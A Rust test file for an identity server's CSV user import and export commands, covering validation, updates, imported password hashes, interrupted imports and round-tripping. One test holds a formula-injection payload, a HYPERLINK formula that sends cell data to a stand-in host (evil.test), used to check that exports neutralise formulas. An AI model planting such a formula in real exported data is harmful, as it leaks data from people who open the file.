//! `lockgate import` and `lockgate export-users`: accounts as a table, beside a server at work.

use std::{fmt::Write as _, fs, path::PathBuf, time::Instant};

use lockgate_tests::{Client, Database, Executor, Server, eventually};
use serde_json::json;

on_each_database!(
    a_table_is_read_after_a_dry_run_and_again,
    accounts_that_are_there_are_changed_where_that_is_wanted,
    a_hash_from_elsewhere_lets_in_and_is_renewed,
    an_interrupted_import_goes_on,
    what_is_written_is_read_again,
    a_table_holds_no_formulas_and_comes_back_as_it_was,
);

/// A file in the server's folder.
fn file(server: &Server, text: &str) -> (PathBuf, String) {
    let path = server.data_folder().join("people.csv");
    fs::write(&path, text).expect("a file");
    let name = path.to_str().expect("a path").to_owned();
    (path, name)
}

async fn users(server: &Server, query: &str) -> i64 {
    let list = server.api().get(&format!("core/users/?{query}")).await.expect(200).json();
    list["pagination"]["count"].as_i64().expect("a number")
}

async fn a_table_is_read_after_a_dry_run_and_again(database: Database) {
    let server = Server::builder(database).start().await;
    server.api().create_user("Taken", "orbit-mango-trellis-58", &[]).await;
    let table = "username,email,name,groups,attributes.office,active\n\
        ada,ada@example.com,Ada Lovelace,Engineers; Staff,London,yes\n\
        bob,nowhere,Bob,,,yes\n\
        ADA,other@example.com,Other,,,\n\
        eve,eve@example.com,\"Eve, of \"\"Eden\"\"\",Staff,,no\n\
        one,two\n\
        taken,t@example.com,,,,\n";
    let (_, name) = file(&server, table);
    let before = users(&server, "").await;
    let none = server.run(&["import", &name]);
    assert_eq!(none.code, 3, "{}", none.text);
    assert!(none.text.contains(":2: ada: groups: there is no group \"Engineers\""), "{}", none.text);
    assert_eq!(users(&server, "").await, before);
    let wishes = ["--create-groups", "--dry-run"];
    for (wishes, would, after) in [(&wishes[..], "would be ", before), (&wishes[..1], "", before + 2)] {
        let told = server.run(&[&["import", &name], wishes].concat());
        assert_eq!(told.code, 3, "{}", told.text);
        for line in [
            ":3: bob: email: Enter a valid email address.",
            ":4: ADA: the same user name stands further up",
            ":6: the row has 2 fields, and the header 6",
            ":7: taken: is there already, and differs in email (--update changes it)",
            &format!("6 rows: 2 accounts {would}made, 0 {would}changed, 0 as they are, 4 refused."),
        ] {
            assert!(told.text.contains(line), "{line}:\n{}", told.text);
        }
        assert_eq!(users(&server, "").await, after);
    }
    let ada = server.api().only("core/users/?username=ada").await;
    assert_eq!((&ada["name"], &ada["attributes"]["office"]), (&json!("Ada Lovelace"), &json!("London")));
    assert_eq!(ada["groups"].as_array().map(Vec::len), Some(2));
    let eve = server.api().only("core/users/?username=eve").await;
    assert_eq!((&eve["name"], &eve["is_active"]), (&json!("Eve, of \"Eden\""), &json!(false)));
    let again = server.run(&["import", &name, "--format", "json"]);
    let told: serde_json::Value = serde_json::from_str(&again.text).expect("JSON");
    assert_eq!((&told["made"], &told["unchanged"], &told["refused"]), (&json!(0), &json!(2), &json!(4)), "{told}");

    for (table, complaint) in
        [("name\nx\n", "line 1: there is no column"), ("username,mail\n", "\"mail\" is no column")]
    {
        let (_, name) = file(&server, table);
        let refused = server.run(&["import", &name]);
        assert!(refused.code == 1 && refused.text.contains(complaint), "{}", refused.text);
    }
    assert_eq!(server.run(&["import", "/nowhere.csv"]).code, 1);
}

async fn accounts_that_are_there_are_changed_where_that_is_wanted(database: Database) {
    let server = Server::builder(database).start().await;
    let (api, password) = (server.api(), "orbit-mango-trellis-58");
    api.create_user("ada", password, &[]).await;
    api.post("core/groups/", &json!({"name": "Staff"})).await.expect(201);
    let client = Client::new();
    Executor::new(&client, &server.base(), "default-authentication-flow", "").login("ada", password).await.redirect();
    let (_, name) =
        file(&server, "username,name,groups,active,attributes\nada,Ada,Staff,no,\"{\"\"a\"\":{\"\"b\"\":1}}\"\n");
    let told = server.run(&["import", &name, "--update"]);
    assert!(told.code == 0 && told.text.contains("1 changed"), "{}", told.text);
    let ada = api.only("core/users/?username=ada").await;
    assert_eq!(
        (&ada["name"], &ada["is_active"], &ada["attributes"]["a"]["b"]),
        (&json!("Ada"), &json!(false), &json!(1))
    );
    assert_eq!(ada["groups"].as_array().map(Vec::len), Some(1));
    // The server beside it hears of it.
    eventually(async || client.get(&server.url("/api/v3/core/users/me/")).await.status == 403).await;
    let told = server.run(&["import", &name, "--update"]);
    assert!(told.text.contains("1 as they are"), "{}", told.text);
}

async fn a_hash_from_elsewhere_lets_in_and_is_renewed(database: Database) {
    let server = Server::builder(database).start().await;
    // What Django makes of "orbit-mango-trellis-58", with few rounds.
    let hash = "pbkdf2_sha256$1000$c2FsdA$VYdBpIfIQqIf40DWSMXxTqLmbC9Mnjw7L0feDdjbfR0=";
    let (_, name) = file(&server, &format!("username,password_hash\nada,{hash}\nbob,secret\n"));
    let told = server.run(&["import", &name]);
    assert!(told.code == 3 && told.text.contains(":3: bob: password_hash"), "{}", told.text);
    assert!(!told.text.contains("secret"), "{}", told.text);
    let login = async |password: &str| {
        let client = Client::new();
        Executor::new(&client, &server.base(), "default-authentication-flow", "").login("ada", password).await
    };
    assert!(!matches!(login("wrong").await, lockgate_tests::FlowEnd::Redirect(_)));
    login("orbit-mango-trellis-58").await.redirect();
    let hashes = async || {
        let out = server.data_folder().join("hashes.csv");
        let _ = fs::remove_file(&out);
        assert_eq!(server.run(&["export-users", out.to_str().expect("a path"), "--password-hashes"]).code, 0);
        fs::read_to_string(out).expect("a table")
    };
    eventually(async || hashes().await.contains("$argon2id$") && !hashes().await.contains("pbkdf2")).await;
    login("orbit-mango-trellis-58").await.redirect();
}

async fn an_interrupted_import_goes_on(database: Database) {
    let server = Server::builder(database).start().await;
    let mut table = "username,email,name,groups\n".to_owned();
    for number in 0..20_000 {
        let _ = writeln!(table, "user-{number},user-{number}@example.com,User {number},Everybody");
    }
    let (_, name) = file(&server, &table);
    let arguments = ["import", &name, "--create-groups"];
    let mut import = server.begin(&arguments);
    eventually(async || users(&server, "search=user-").await >= 2_000).await;
    import.kill();
    let part = users(&server, "search=user-").await;
    assert!(part % 1_000 == 0 && part < 20_000, "{part} of 20,000: whole transactions, and not all");
    let began = Instant::now();
    let told = server.run(&arguments);
    let took = began.elapsed();
    assert_eq!(told.code, 0, "{}", told.text);
    let line = format!("{} accounts made, 0 changed, {part} as they are, 0 refused", 20_000 - part);
    assert!(told.text.contains(&line), "{line}:\n{}", told.text);
    let list = server.api().get("core/groups/?name=Everybody&include_users=true").await.expect(200).json();
    assert_eq!(list["results"][0]["users"].as_array().map(Vec::len), Some(20_000));
    println!("{} accounts in {took:?}", 20_000 - part);
}

async fn a_table_holds_no_formulas_and_comes_back_as_it_was(database: Database) {
    const FORMULA: &str = "=HYPERLINK(\"http://evil.test/?\"&A1)";
    let names = [FORMULA, "+49 30", "-Ada", "@ada", "'=marked", "O'Neil"];
    let server = Server::builder(database).start().await;
    for (at, name) in names.into_iter().enumerate() {
        let body = json!({"username": format!("user{at}"), "name": name, "attributes": {"a": "=1"}});
        server.api().post("core/users/", &body).await.expect(201);
    }
    let (path, name) = file(&server, "");
    fs::remove_file(&path).expect("gone");
    assert_eq!(server.run(&["export-users", &name]).code, 0);
    let table = fs::read_to_string(&path).expect("a table");
    let cells: Vec<&str> = table.lines().flat_map(|line| line.split(',')).map(|cell| cell.trim_matches('"')).collect();
    assert!(cells.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{table}");
    assert!(table.contains("'=HYPERLINK") && table.contains("''=marked"), "{table}");
    let other = Server::builder(database).start().await;
    let told = other.run(&["import", &name, "--create-groups"]);
    assert_eq!(told.code, 0, "{}", told.text);
    for (at, name) in names.into_iter().enumerate() {
        let user = other.api().only(&format!("core/users/?username=user{at}")).await;
        assert_eq!((&user["name"], &user["attributes"]["a"]), (&json!(name), &json!("=1")));
    }
}

async fn what_is_written_is_read_again(database: Database) {
    let server = Server::builder(database).start().await;
    let table = "username,name,groups,attributes\nada,\"Ada, L.\",A; B,\"{\"\"n\"\":1}\"\n";
    let (path, name) = file(&server, table);
    assert_eq!(server.run(&["import", &name, "--create-groups"]).code, 0);
    fs::remove_file(&path).expect("gone");
    let written = server.run(&["export-users", &name]);
    assert_eq!(written.code, 0, "{}", written.text);
    let text = fs::read_to_string(&path).expect("a table");
    assert!(text.contains("ada,,\"Ada, L.\",users,internal,true,A; B,\"{\"\"n\"\":1}\"\n"), "{text}");
    assert!(!text.contains("argon2") && !text.contains("password_hash"), "{text}");
    let again = server.run(&["export-users", &name]);
    assert_ne!(again.code, 0, "a file that is there stays: {}", again.text);
    // Another installation.
    let other = Server::builder(database).start().await;
    let told = other.run(&["import", &name, "--create-groups"]);
    assert!(told.text.contains(" as they are"), "{}", told.text);
    let ada = other.api().only("core/users/?username=ada").await;
    assert_eq!((&ada["name"], &ada["attributes"]["n"]), (&json!("Ada, L."), &json!(1)));
}
